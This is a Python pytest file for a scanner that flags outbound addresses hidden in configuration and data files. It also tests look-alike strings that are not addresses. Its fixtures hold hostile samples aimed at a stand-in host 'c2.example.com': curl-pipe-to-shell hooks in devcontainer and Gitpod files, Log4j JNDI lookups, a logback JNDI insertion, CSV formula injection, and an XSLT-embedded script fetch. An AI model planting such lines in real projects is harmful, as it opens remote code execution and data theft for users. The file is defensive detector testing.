"""Addresses in settings and data that no scheme of the web announces, beside what only looks like them."""

from __future__ import annotations

import pytest

from tests.examine.outbound.outbound_kit import outbound

HOST = "c2.example.com"
HIDDEN = [
    ("c.yml", f"api: '//{HOST}/'\n"),
    ("c.yml", f"api: //{HOST}/v1\n"),
    ("c.yml", f"servers:\n - url: //{HOST}/\n"),
    ("a.exe.config", f'<codeBase version="1" href="//{HOST}/a.dll"/>\n'),
    ("_headers", f"/*\n  Link: <//{HOST}/x>; rel=preload; as=script\n"),
    ("_headers", f"/*\n  Refresh: 0;url=//{HOST}/\n"),
    ("_redirects", f"/*  //{HOST}/:splat 302\n"),
    ("netlify.toml", f'to="//{HOST}/:splat"\n'),
    (".htaccess", f"RewriteRule ^(.*)$ fcgi://{HOST}:9000/$1 [P]\n"),
    ("gradle-wrapper.properties", f"distributionUrl=https\\://{HOST}/gradle.zip\n"),
    ("a.csv", 'name,v\n=IMAGE("ht"&"tps://c2.example.com/"),1\n'),
    ("a.csv", 'name,v\n"=IMPORTXML(A1,""//a"")",1\n'),
    ("c.json", f'{{"host": "{HOST}", "port": 443}}'),
    ("c.json", f'{{"db": "jdbc:mysql://{HOST}/x"}}'),
    ("c.json", f'{{"lookup": "${{jndi:ldap://{HOST}/a}}"}}'),
    ("c.json", f'{{"html": "<img src=//{HOST}/a>"}}'),
    ("a.ipynb", f'{{"cells": [{{"outputs": [{{"data": {{"text/html": ["<img src=//{HOST}/x>"]}}}}]}}]}}'),
    ("devcontainer.json", f'{{"postCreateCommand": "curl {HOST}/a|s\x68"}}'),
    (".gitpod.yml", f"tasks:\n - init: curl {HOST}/a|s\x68\n"),
    ("log4j2.xml", f'<Configuration><PatternLayout pattern="${{jndi:ldap://{HOST}/a}}"/></Configuration>'),
    ("logback.xml", f'<configuration><insertFromJNDI env-entry-name="rmi://{HOST}/a" as="x"/></configuration>'),
    ("persistence.xml", f'<p><property name="url" value="jdbc:postgresql://{HOST}/x"/></p>'),
    ("a.xml", f"<p><url>jdbc:postgresql://{HOST}/x</url></p>"),
]


@pytest.mark.parametrize(("name", "data"), HIDDEN)
def test_address_without_a_scheme_of_the_web(name: str, data: str) -> None:
    assert {"string", "opaque", "code"} & {fact.reach for fact in outbound(data, name)}, outbound(data, name)


XSLT = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"'
SCRIPT = f'<script>fetch("//" + "{HOST}")</script>'


@pytest.mark.parametrize(
    "data",
    [
        f'<xsl:stylesheet {XSLT}><xsl:template match="/"><html>{SCRIPT}</html></xsl:template></xsl:stylesheet>',
        f'<d><xsl:transform {XSLT}><xsl:template match="/"><html>{SCRIPT}</html></xsl:template></xsl:transform></d>',
    ],
)
def test_script_of_the_page_that_a_style_sheet_makes(data: str) -> None:
    assert ("code", HOST) in {(fact.reach, fact.host) for fact in outbound(data, "a.xml")}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("c.yml", "path: //share\nkey: a//b.c/d\n# //c2.example.com/x\nxpath: //div.item\n"),
        ("c.yml", "command: x //comment\nname: '//'\n"),
        ("c.ini", "//c2.example.com/ is a comment\n"),
        ("c.properties", "path=C\\:\\\\a\nmessage=a\\: b\n"),
        ("c.json", '{"about": "curl is a tool", "run": "curl --version"}'),
        ("c.yml", "about: curl and wget are tools. Both fetch.\ntool: curl\n"),
        ("a.csv", "name,v\nIMAGE(x),1\n=SUM(A1),2\n-1,image (a)\n"),
        ("c.json", '{"host": "localhost.js", "server": "a b", "endpoint": "/v1", "name": "c2.example.com"}'),
        ("c.json", '{"hosts": {"a": 1}, "html": "<a href=/b//c.d>"}'),
        ("a.xml", '<a b="x: y" c="a:b//c"><d>a//b</d></a>'),
        (
            "a.xsl",
            f'<xsl:stylesheet {XSLT}><xsl:template match="/"><img src="{{$a}}/b.png"/></xsl:template></xsl:stylesheet>',
        ),
    ],
)
def test_what_looks_like_an_address_and_is_none(name: str, data: str) -> None:
    assert [fact for fact in outbound(data, name) if fact.reach != "text"] == []


def test_address_in_a_sentence_of_an_attribute_is_text() -> None:
    facts = outbound(f'<a description="See https://{HOST}/a for more"/>', "a.xml")
    assert [(fact.host, fact.reach) for fact in facts] == [(HOST, "text")]
